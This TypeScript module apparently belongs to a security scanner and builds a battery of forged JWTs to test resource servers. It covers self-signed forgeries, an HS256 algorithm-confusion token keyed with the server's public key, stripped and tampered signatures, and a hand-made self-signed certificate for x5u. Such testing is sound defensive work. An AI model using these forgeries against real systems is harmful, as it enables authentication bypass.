/**
 * The tokens of the JWT forgery battery (docs/jwt-battery.md), built locally
 * and never verified here: plausible claims (copied from the user's token when it is a JWT, its
 * signature never reused), signed with keys the scanner generates for this scan, or with the
 * authorization server's public key misused as an HMAC secret, plus the user's own token with
 * its signature stripped or changed. Each forgery is refused by a resource server that checks
 * which key made the signature; each one is accepted by a known class of broken verifier.
 */
import {
  createHmac,
  createPublicKey,
  generateKeyPair as nodeGenerateKeyPair,
  randomBytes,
  sign,
} from 'node:crypto';
import type { JsonWebKey, KeyObject } from 'node:crypto';
import { promisify } from 'node:util';
import { exportJWK, SignJWT } from 'jose';
import type { JWK } from 'jose';
import { PROBE_PREFIX } from '../mcp-messages.js';

const generate = promisify(nodeGenerateKeyPair);

/** A key pair the scanner made, and the JWS algorithm it signs with. */
export interface ScannerKey {
  readonly alg: string;
  readonly privateKey: KeyObject;
  readonly publicKey: KeyObject;
  /** The public key as a JWK, with a `kid` of the scanner's own. */
  readonly jwk: JWK;
}

/** A key of the authorization server's JWKS the forgeries imitate. */
export interface AsKey {
  readonly jwk: JWK;
  readonly kid: string | null;
  readonly alg: string;
}

const RSA_ALGS = new Set(['RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512']);
const EC_ALGS: Readonly<Record<string, string>> = { 'P-256': 'ES256', 'P-384': 'ES384', 'P-521': 'ES512' };

/** The algorithm a key of this type signs with, or null for a key the battery cannot imitate. */
function algOf(jwk: JWK): string | null {
  if (jwk.kty === 'RSA') return typeof jwk.alg === 'string' && RSA_ALGS.has(jwk.alg) ? jwk.alg : 'RS256';
  if (jwk.kty === 'EC') return EC_ALGS[jwk.crv ?? ''] ?? null;
  if (jwk.kty === 'OKP' && jwk.crv === 'Ed25519') return 'EdDSA';
  return null;
}

/**
 * The signing key of the JWKS to imitate: the one the user's token names when it is listed, else
 * the first public signing key with a `kid`, else the first without one.
 */
export function pickAsKey(jwks: unknown, preferKid: string | null): AsKey | { error: string } {
  const keys = (jwks as { keys?: unknown } | null)?.keys;
  if (!Array.isArray(keys)) return { error: 'the JWKS has no keys array' };
  const usable = keys
    .filter((k): k is JWK => typeof k === 'object' && k !== null && !Array.isArray(k))
    .filter((k) => k.use !== 'enc' && k.d === undefined && algOf(k) !== null);
  const kidOf = (k: JWK) => (typeof k.kid === 'string' && k.kid !== '' ? k.kid : null);
  const chosen =
    usable.find((k) => preferKid !== null && kidOf(k) === preferKid) ??
    usable.find((k) => kidOf(k) !== null) ??
    usable[0];
  if (!chosen) return { error: 'the JWKS lists no RSA, EC or Ed25519 signing key' };
  return { jwk: chosen, kid: kidOf(chosen), alg: algOf(chosen)! };
}

/** A fresh key pair of the same type as `like` (RSA 2048 by default). */
export async function scannerKey(like?: JWK): Promise<ScannerKey> {
  const alg = like ? (algOf(like) ?? 'RS256') : 'RS256';
  const pair =
    alg === 'EdDSA'
      ? await generate('ed25519')
      : alg.startsWith('ES')
        ? await generate('ec', {
            namedCurve: like?.crv === 'P-384' ? 'P-384' : like?.crv === 'P-521' ? 'P-521' : 'P-256',
          })
        : await generate('rsa', { modulusLength: 2048 });
  const kid = `${PROBE_PREFIX}-${randomBytes(6).toString('hex')}`;
  const jwk = { ...(await exportJWK(pair.publicKey)), kid, alg, use: 'sig' };
  return { alg, privateKey: pair.privateKey, publicKey: pair.publicKey, jwk };
}

/**
 * The claims the forgeries carry: the user's token's own (a fresh `exp` when it has expired), or
 * made up: the issuer, the resource as `aud`, the advertised scopes and five minutes of life.
 */
export function forgeryClaims(
  user: Readonly<Record<string, unknown>> | null,
  made: { readonly issuer: string | null; readonly resource: string; readonly scopes: readonly string[] },
  now = Date.now(),
): { claims: Record<string, unknown>; from: 'user-token' | 'synthesized' } {
  const iat = Math.floor(now / 1000);
  if (user !== null) {
    const exp = typeof user['exp'] === 'number' && user['exp'] > iat + 60 ? user['exp'] : iat + 300;
    return { claims: { ...user, exp }, from: 'user-token' };
  }
  return {
    claims: {
      iss: made.issuer ?? new URL(made.resource).origin,
      aud: made.resource,
      sub: `${PROBE_PREFIX}-forged`,
      client_id: `${PROBE_PREFIX}-forged`,
      scope: made.scopes.length > 0 ? made.scopes.join(' ') : 'mcp',
      iat,
      exp: iat + 300,
      jti: randomBytes(12).toString('base64url'),
    },
    from: 'synthesized',
  };
}

/** A JWS of `claims` with exactly `header` (which names the algorithm), signed by `key`. */
export function signJwt(
  claims: Record<string, unknown>,
  header: Record<string, unknown> & { alg: string },
  key: KeyObject,
): Promise<string> {
  return new SignJWT(claims).setProtectedHeader(header).sign(key);
}

const b64 = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');

/**
 * Algorithm confusion: an HS256 JWS whose HMAC secret is the authorization server's public key in
 * PEM (SPKI) form, the bytes a verifier that hands "the key" to an algorithm chosen by the token
 * uses. jose refuses an asymmetric-looking HMAC key, so the MAC is computed here.
 */
export function hs256WithPublicKey(
  claims: Record<string, unknown>,
  asKey: AsKey,
): { token: string; header: Record<string, unknown> } {
  const pem = publicKeyPem(asKey.jwk);
  const header = { alg: 'HS256', typ: 'JWT', ...(asKey.kid !== null ? { kid: asKey.kid } : {}) };
  const input = `${b64(header)}.${b64(claims)}`;
  return { token: `${input}.${createHmac('sha256', pem).update(input).digest('base64url')}`, header };
}

/** The SPKI PEM of a public JWK, as `crypto.KeyObject#export` writes it. */
export function publicKeyPem(jwk: JWK): string {
  const { d: _private, ...pub } = jwk;
  return createPublicKey({ key: pub as JsonWebKey, format: 'jwk' })
    .export({ type: 'spki', format: 'pem' })
    .toString();
}

/** The user's token without its signature: `header.payload.` (null: not a JWS). */
export function stripSignature(token: string): string | null {
  const parts = token.split('.');
  return parts.length === 3 && parts[2] !== '' ? `${parts[0]}.${parts[1]}.` : null;
}

/** The user's token with one byte of its signature changed (null: not a JWS with a signature). */
export function tamperSignature(token: string): string | null {
  const parts = token.split('.');
  if (parts.length !== 3) return null;
  const sig = Buffer.from(parts[2]!, 'base64url');
  if (sig.length === 0) return null;
  const i = Math.floor(sig.length / 2);
  sig[i] = sig[i]! ^ 0x01;
  return `${parts[0]}.${parts[1]}.${sig.toString('base64url')}`;
}

// --- A self-signed X.509 certificate for `x5u` (DER by hand: node:crypto parses, never issues) ---

function der(tag: number, ...content: Buffer[]): Buffer {
  const body = Buffer.concat(content);
  const len = body.length;
  const bytes: number[] = [];
  for (let n = len; n > 0; n >>= 8) bytes.unshift(n & 0xff);
  const head = len < 0x80 ? [len] : [0x80 | bytes.length, ...bytes];
  return Buffer.concat([Buffer.from([tag, ...head]), body]);
}

function oid(dotted: string): Buffer {
  const [a, b, ...rest] = dotted.split('.').map(Number);
  const out = [a! * 40 + b!];
  for (const arc of rest) {
    const chunk = [arc & 0x7f];
    for (let n = arc >> 7; n > 0; n >>= 7) chunk.unshift((n & 0x7f) | 0x80);
    out.push(...chunk);
  }
  return der(0x06, Buffer.from(out));
}

const utcTime = (d: Date) =>
  der(0x17, Buffer.from(`${d.toISOString().slice(2, 19).replace(/[-T:]/g, '')}Z`, 'ascii'));

/** A self-signed certificate (sha256WithRSAEncryption) for the scanner's RSA key, as PEM. */
export function selfSignedCertificate(key: ScannerKey, now = Date.now()): string {
  const sha256WithRsa = der(0x30, oid('1.2.840.113549.1.1.11'), Buffer.from([0x05, 0x00]));
  const name = der(0x30, der(0x31, der(0x30, oid('2.5.4.3'), der(0x0c, Buffer.from(PROBE_PREFIX)))));
  const serial = randomBytes(8);
  serial[0] = serial[0]! & 0x7f;
  const tbs = der(
    0x30,
    der(0xa0, der(0x02, Buffer.from([2]))),
    der(0x02, serial),
    sha256WithRsa,
    name,
    der(0x30, utcTime(new Date(now - 60_000)), utcTime(new Date(now + 3_600_000))),
    name,
    key.publicKey.export({ type: 'spki', format: 'der' }),
  );
  const signature = sign('sha256', tbs, key.privateKey);
  const cert = der(0x30, tbs, sha256WithRsa, der(0x03, Buffer.from([0]), signature));
  const lines = cert.toString('base64').match(/.{1,64}/g) ?? [];
  return `-----BEGIN CERTIFICATE-----\n${lines.join('\n')}\n-----END CERTIFICATE-----\n`;
}
